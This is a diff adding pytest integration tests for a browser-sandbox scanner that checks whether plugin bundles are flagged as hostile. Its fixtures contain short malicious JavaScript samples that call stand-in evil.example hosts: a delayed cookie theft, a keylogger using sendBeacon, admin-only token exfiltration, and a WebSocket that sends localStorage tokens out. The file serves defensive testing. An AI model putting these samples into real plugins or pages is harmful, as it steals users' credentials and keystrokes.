@@ -1,0 +1,169 @@
+"""Real Chromium: hostile plugins are caught in the act, benign ones stay quiet."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sandbox.browser import BrowserPool, BrowserSettings, browser_processes
+from sandbox.detonation import DetonationRequest
+from scanner.findings import Category, Finding, Severity, StageStatus
+from scanner.stages.runtime import RuntimeStage
+from scanner.workspace import Workspace
+from tests.conftest import manifest
+
+pytestmark = pytest.mark.integration
+
+
+@pytest.fixture(scope="module")
+def pool() -> Iterator[BrowserPool]:
+    if not Path("/usr/bin/chromium").exists():
+        pytest.fail("chromium is not installed: run scripts/setup")
+    p = BrowserPool(BrowserSettings())
+    yield p
+    p.close()
+
+
+def _plugin(tmp_path: Path, body: str, **manifest_changes: Any) -> Workspace:
+    root = tmp_path / "bundle"
+    (root / "dist").mkdir(parents=True)
+    (root / "plugin.json").write_text(json.dumps(manifest(**manifest_changes)))
+    (root / "dist" / "bundle.js").write_text(
+        "var TestPlugin = { mount: function (container, ctx) {"
+        + body
+        + " return function () {}; } };"
+    )
+    return Workspace.from_directory(root)
+
+
+def _run(pool: BrowserPool, ws: Workspace, limit: float = 15.0) -> tuple[list[Finding], Any]:
+    result = RuntimeStage(pool, limit).run(ws)
+    return result.findings, result
+
+
+def _rules(findings: list[Finding], role: str = "user") -> set[str]:
+    return {f.rule_id for f in findings if f.message.endswith(f"(as {role})")}
+
+
+def test_delayed_cookie_theft_fires_under_the_fast_forwarded_clock(
+    pool: BrowserPool, tmp_path: Path
+) -> None:
+    body = (
+        "setTimeout(function () { fetch('https://c.evil.example/?c=' + encodeURIComponent(document.cookie)); },"
+        " 3 * 3600 * 1000);"
+    )
+    findings, result = _run(pool, _plugin(tmp_path, body))
+    assert result.status is StageStatus.OK
+    theft = [f for f in findings if f.rule_id == "runtime-exfiltration"]
+    assert theft and theft[0].severity is Severity.CRITICAL and "session cookie" in theft[0].message
+    assert "runtime-cookie-read" in _rules(findings)
+    assert {"trace-user.json", "trace-admin.json", "screenshot-user.png"} <= set(result.artifacts)
+    assert result.artifacts["screenshot-user.png"].startswith(b"\x89PNG")
+
+
+def test_keylogger_on_the_host_page(pool: BrowserPool, tmp_path: Path) -> None:
+    body = (
+        "var keys = ''; document.addEventListener('keydown', function (e) { keys += e.key; });"
+        "setInterval(function () { if (keys) navigator.sendBeacon('https://k.evil.example/k', keys); }, 5000);"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    rules = _rules(findings)
+    assert {"runtime-page-input-listener", "runtime-exfiltration"} <= rules
+    assert any("typed password" in f.message for f in findings)
+
+
+def test_payload_that_targets_admins_only(pool: BrowserPool, tmp_path: Path) -> None:
+    body = (
+        "if (ctx.auth.getUser().role === 'admin') {"
+        " fetch('https://a.evil.example/t', {method: 'POST', body: ctx.auth.getToken()}); }"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert "runtime-exfiltration" in _rules(findings, "admin")
+    assert "runtime-exfiltration" not in _rules(findings, "user")
+
+
+def test_websocket_exfiltration_is_recorded_without_leaving(
+    pool: BrowserPool, tmp_path: Path
+) -> None:
+    body = (
+        "var ws = new WebSocket('wss://ws.evil.example/live');"
+        "ws.onopen = function () { ws.send(localStorage.getItem('auth_token')); };"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert {"runtime-exfiltration", "runtime-storage-token-read"} <= _rules(findings)
+
+
+def test_dom_escape_and_global_override(pool: BrowserPool, tmp_path: Path) -> None:
+    body = (
+        "var b = document.createElement('div'); b.textContent = 'Sale!'; document.body.appendChild(b);"
+        "var orig = window.fetch; window.fetch = function (u, o) { return orig(u, o); };"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert {"runtime-dom-outside-container", "runtime-global-override"} <= _rules(findings)
+
+
+def test_benign_plugin_using_its_declared_api_is_quiet(pool: BrowserPool, tmp_path: Path) -> None:
+    body = (
+        "var f = document.createElement('form'); var i = document.createElement('input'); i.name = 'note';"
+        "var btn = document.createElement('button'); btn.textContent = 'Save'; f.appendChild(i); f.appendChild(btn);"
+        "f.addEventListener('submit', function (e) { e.preventDefault();"
+        " fetch('https://api.acme.example/notes', {method: 'POST', body: JSON.stringify({note: i.value})}); });"
+        "container.appendChild(f); localStorage.setItem('notes:v1', '[]');"
+    )
+    ws = _plugin(
+        tmp_path, body, capabilities={"network": ["https://api.acme.example"], "storage": True}
+    )
+    findings, result = _run(pool, ws)
+    assert result.status is StageStatus.OK
+    assert [f for f in findings if f.severity >= Severity.MEDIUM] == []
+    trace = json.loads(result.artifacts["trace-user.json"])
+    assert any(
+        r["outcome"] == "declared" and "api.acme.example" in r["url"] for r in trace["requests"]
+    )
+    assert "connect-src 'self' https://api.acme.example" in result.raw["csp"]
+
+
+def test_mount_failure_fails_closed(pool: BrowserPool, tmp_path: Path) -> None:
+    findings, _ = _run(pool, _plugin(tmp_path, "", globalName="SomethingElse"))
+    assert {f.category for f in findings} == {Category.COVERAGE}
+
+
+def test_endless_mount_times_out_and_the_pool_recovers(pool: BrowserPool, tmp_path: Path) -> None:
+    _, result = _run(pool, _plugin(tmp_path / "a", "while (true) {}"), limit=2.0)
+    assert result.status is StageStatus.TIMEOUT
+    _, after = _run(pool, _plugin(tmp_path / "b", "container.textContent = 'ok';"))
+    assert after.status is StageStatus.OK
+
+
+def test_no_browser_or_profile_left_after_200_scans(tmp_path: Path) -> None:
+    profiles_before = set(Path("/tmp").glob("playwright*"))
+    browsers_before = set(browser_processes())  # the module's own pool may be running
+    ws = _plugin(tmp_path, "container.textContent = 'hello';")
+    pool = BrowserPool(BrowserSettings(max_scans=50))  # forces restarts along the way
+    request = DetonationRequest(
+        root=ws.root,
+        files=tuple(f.path for f in ws.files),
+        entry="dist/bundle.js",
+        styles=(),
+        global_name="TestPlugin",
+        allowed_origins=(),
+        csp="default-src 'none'",
+        role="user",
+        time_limit_s=5,
+    )
+    try:
+        for _ in range(200):
+            trace = pool.detonate(request, timeout=60)
+            assert trace.error is None and trace.mount_error is None
+        assert pool.launches >= 4
+    finally:
+        pool.close()
+    assert set(browser_processes()) - browsers_before == set()
+    leftovers = set(Path("/tmp").glob("playwright*")) - profiles_before
+    assert leftovers == set(), leftovers
+    shutil.rmtree(tmp_path, ignore_errors=True)
